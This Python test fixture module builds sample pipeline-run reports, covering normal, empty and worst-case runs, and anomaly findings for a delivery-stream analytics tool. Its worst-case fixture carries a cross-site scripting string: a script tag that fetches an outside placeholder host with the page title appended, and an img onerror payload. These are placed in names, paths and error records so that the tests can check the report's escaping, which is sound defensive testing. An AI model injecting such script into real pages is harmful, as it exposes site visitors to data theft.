"""Pictures of runs for the tests of the report, without a run: ordinary, empty, and as bad as records can be."""

from dataclasses import asdict
from typing import Any

from pipelines.analytics.findings import Box, Detection, Findings, PointMap, Scored, ScoredSeries
from pipelines.cli.report.data import ERRORS, Picture, StreamPicture
from pipelines.firehose.chunk import DeliveredObject, ShardLineage
from pipelines.firehose.config import (
    DeliveryStreamConfig,
    FormatConversion,
    LambdaProcessorConfig,
    OpenXJsonSerDe,
    ParquetSerDe,
    S3Backup,
    S3Destination,
    SchemaConfiguration,
)
from pipelines.firehose.invocation import Invocation
from pipelines.firehose.ledger import Account

EVIL = (
    "<script>fetch('http://example.com/' + document.title)</script><img src=http://example.com/x onerror=alert(1)>\"'&"
)
LONG = "x" * 300


def config(*, function: bool = True, conversion: bool = True, backup: bool = True) -> dict[str, Any]:
    schema = SchemaConfiguration("role", "a_database", "a_table")
    return asdict(
        DeliveryStreamConfig(
            "s",
            "arn",
            S3Destination(
                "bucket",
                "role",
                lambda_processor=LambdaProcessorConfig("arn:f") if function else None,
                conversion=FormatConversion(OpenXJsonSerDe(), ParquetSerDe(), schema) if conversion else None,
                backup=S3Backup("bucket", "role") if backup else None,
            ),
        )
    )


def written(kind: str, number: int, records: int, reason: str, key: str = "k/dt=1/") -> DeliveredObject:
    shard = f"shardId-{number % 4:012d}"
    return DeliveredObject(
        kind, "bucket", f"{key}{kind}-{number}", 1_000 * records, records, 900 * records, reason,
        (ShardLineage(shard, "1", "2", records),),
        opened_ms=1_000 + 400 * number, flushed_ms=1_900 + 400 * number, oldest_arrival_ms=900 + 400 * number,
    )  # fmt: skip


def called(number: int, failed: dict[str, tuple[int, ...]]) -> Invocation:
    return Invocation("arn:f", ("id",), 1_500 + number, 1_600 + number, 500, 10, 400, 90, failed, "size", 1_000, 1_400)


def failure(raw: bytes, message: str = "ProcessingFailed status set for record") -> dict[str, Any]:
    return {"errorCode": "Lambda.FunctionError", "errorMessage": message, "attemptsMade": 4, "rawData": raw}


def stream(name: str = "s", **more: Any) -> StreamPicture:
    reasons = ("interval", "interval", "size", "end")
    settings = {
        "account": Account(put=5_000, delivered=4_000, dropped=900, failed=100),
        "objects": [written("data", n, 1_000, reasons[n]) for n in range(4)]
        + [written(kind, n, 25, "end") for kind in ERRORS for n in range(2)]
        + [written("backup", n, 1_250, "end") for n in range(4)],
        "invocations": [called(n, {"Lambda.FunctionError": (0, 1)}) for n in range(10)],
        "config": config(),
        "table": "a_database.a_table",
        "failures": [failure(b'{"n": 1}\n')],
    }
    return StreamPicture(name, **(settings | more))


def picture(*streams: StreamPicture, **more: Any) -> Picture:
    settings: dict[str, Any] = {
        "scenario": "flights",
        "target": "embedded",
        "stream": "flights",
        "seed": 1,
        "began_ms": 0,
        "seconds": 9.87,
        "first_object_s": 2.5,
        "passed": True,
        "problems": [],
        "verdict": "carrier  mean",
        "streams": streams or [stream()],
        "put": [(0.9 + 0.1 * n, 500, 100_000) for n in range(10)],
        "shards": 4,
        "samples": [
            {"seconds": 1 + 0.2 * n, "put": 0, "stages": {"source": {"watermark_lag_ms": 900 + 10 * n}}}
            for n in range(9)
        ],
    }
    return Picture(**(settings | more))


def evil() -> Picture:
    """Everything that comes from a user or a record is hostile, or as long as it can be."""
    folders = [written("data", n, 10, "interval", f"{EVIL}/{LONG[:200]}/dt={n}/") for n in range(50)]
    bad = stream(
        f"stream-{EVIL}",
        objects=folders,
        table=f"{LONG}.{EVIL}",
        failures=[
            failure(EVIL.encode(), EVIL),
            failure(LONG.encode() * 9, LONG),
            failure(b"\xff\x00\x1b[31m"),
            failure(b""),
        ],
        account=Account(put=10**9, delivered=5, dropped=0, failed=4, lost=(("a", "b", 0),)),
    )
    names = ("scenario", "target", "stream")
    return picture(
        bad,
        stream("other"),
        problems=[EVIL, LONG],
        verdict=f"{EVIL}\n{LONG}",
        passed=False,
        **dict.fromkeys(names, EVIL),
    )


def empty() -> Picture:
    """A run that put nothing."""
    nothing = stream(
        account=Account(put=0, delivered=0, dropped=0, failed=0), objects=[], invocations=[], failures=[], table=None
    )
    return picture(nothing, put=[], shards=0, samples=[], first_object_s=None)


def findings(name: str = "a_series") -> Findings:
    """A series with and without anything in it, and maps of many points, of one, and of none."""
    windows = [Scored(n * 1_800_000, 10.0 + n % 7, 0.0 if n < 96 else 1.0 + n % 5 / 10, 1.7) for n in range(600)]
    known = [(200 * 1_800_000, 220 * 1_800_000), (-5, 10_000)]
    found = [Detection(210 * 1_800_000, 214 * 1_800_000, name, True), Detection(400 * 1_800_000, 10**12, name, False)]
    boxes = [Box(120.5, (0.1, 0.1), (0.2, 0.3)), Box(1e9, (0.9, 0.9), (0.9, 0.9))]
    many = [(n % 97 / 97, n % 89 / 89) for n in range(9_000)]
    axes = ("longitude", "latitude")
    return Findings(
        "What was found",
        name,
        [
            ScoredSeries(name, windows, known, found),
            ScoredSeries(f"{name} that never came", []),
            ScoredSeries("one window", windows[:1]),
            PointMap(name, axes, many, boxes),
            PointMap("one point", axes, [(1.0, 2.0)]),
            PointMap("no point", axes, []),
        ],
    )
